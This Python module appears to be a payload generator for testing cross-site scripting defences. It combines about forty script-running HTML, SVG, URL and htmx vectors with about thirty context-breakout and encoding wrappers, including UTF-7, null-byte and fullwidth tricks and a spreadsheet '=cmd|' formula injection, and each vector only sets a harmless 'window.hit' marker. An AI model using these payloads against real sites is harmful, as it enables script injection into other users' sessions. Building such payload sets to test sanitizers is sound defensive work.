"""Markup that runs a script where it is let: vectors, and the clothes they wear.

Each sets `window.hit` where it runs. Vectors are the classes that HTML, SVG, URLs and
templates offer (HTML Living Standard, "Scripting" and "Embedded content"); clothes are
contexts to break out of and ways to write the same.
"""

from collections.abc import Callable, Iterator
from itertools import product

_RUN = "window.hit=1"

VECTORS: tuple[str, ...] = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt\n>{_RUN}</sCrIpT >",
    f'<script src="data:text/javascript,{_RUN}"></script>',
    f"<img src=x onerror={_RUN}>",
    f'<img src=x onerror="{_RUN}" alt=\'',
    f"<img/src=x/onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>link</text></a></svg>',
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    f'<object data="javascript:{_RUN}"></object>',
    f'<embed src="javascript:{_RUN}">',
    f'<a href="javascript:{_RUN}" autofocus>link</a>',
    f'<a href="java&#9;script:{_RUN}">link</a>',
    f'<a href="&#106;avascript:{_RUN}">link</a>',
    f'<form action="javascript:{_RUN}"><button>go</button></form>',
    f'<form><button formaction="javascript:{_RUN}">go</button></form>',
    f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    f'<base href="javascript:/a/-{_RUN}//"><a href=x>link</a>',
    f"<link rel=stylesheet href=x onerror={_RUN}>",
    f"<style onload={_RUN}></style>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_RUN}>x</b>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><img src=x onerror={_RUN}></template><img src=x onerror={_RUN}>",
    f"<table><td background=x><img src=x onerror={_RUN}>",
    f"<xmp><img src=x onerror={_RUN}></xmp><img src=y onerror={_RUN}>",
    f'<div hx-on:load="{_RUN}" hx-get=/ hx-trigger=load>x</div>',
    f"<div hx-get=/healthz hx-trigger=\"load[{_RUN}]\" hx-vals='js:{{x:{_RUN}}}'>x</div>",
)


def _plain(vector: str) -> str:
    return vector


_CLOTHES: tuple[Callable[[str], str], ...] = (
    _plain,
    lambda v: f'">{v}',
    lambda v: f"'>{v}",
    lambda v: f"</title></head>{v}",
    lambda v: f"</script>{v}",
    lambda v: f"</textarea></style>{v}",
    lambda v: f"]]>-->{v}",
    lambda v: f"`>{v}`",
    lambda v: v.upper().replace(_RUN.upper(), _RUN),
    lambda v: v.replace(" ", "/", 1) if " " in v else v.replace("<", "<\t", 1),
    lambda v: v.replace("<", "\x00<", 1),
    lambda v: v.replace("<", "&lt;").replace(">", "&gt;") + v,
    lambda v: f"{{{{ '{v}' | safe }}}}",
    lambda v: f"{{% raw %}}{v}{{% endraw %}}",
    lambda v: v.replace("<", "＜").replace(">", "＞") + v,
    lambda v: f"\u202e{v}\u202c",
    lambda v: f" javascript:{_RUN}//{v}",
    lambda v: f'" autofocus onfocus={_RUN} x="{v}',
    lambda v: f"' autofocus onfocus={_RUN} x='{v}",
    lambda v: f"%3C{v[1:]}",
    lambda v: f"+ADw-{v}",
    lambda v: f"{v}\r\n\r\n{v}",
    lambda v: f"x{v}" * 3,
    lambda v: f"data:text/html,{v}",
    lambda v: f"$'{v}$`",
    lambda v: f"<!--{v}-->{v}",
    lambda v: f"<![CDATA[{v}]]>",
    lambda v: f"\\u003c{v}\\x3c",
    lambda v: f"=cmd|'{v}'!A1",
    lambda v: f"<b title='{v}'>{v}</b>",
)


def payloads(count: int) -> list[str]:
    """Return so many different payloads, of all vectors and clothes in turn."""
    found = list(dict.fromkeys(_all()))
    if count > len(found):
        raise ValueError(f"there are {len(found)} payloads")
    step = len(found) / count
    return [found[int(n * step)] for n in range(count)]


def _all() -> Iterator[str]:
    for clothe, vector in product(_CLOTHES, VECTORS):
        yield clothe(vector)
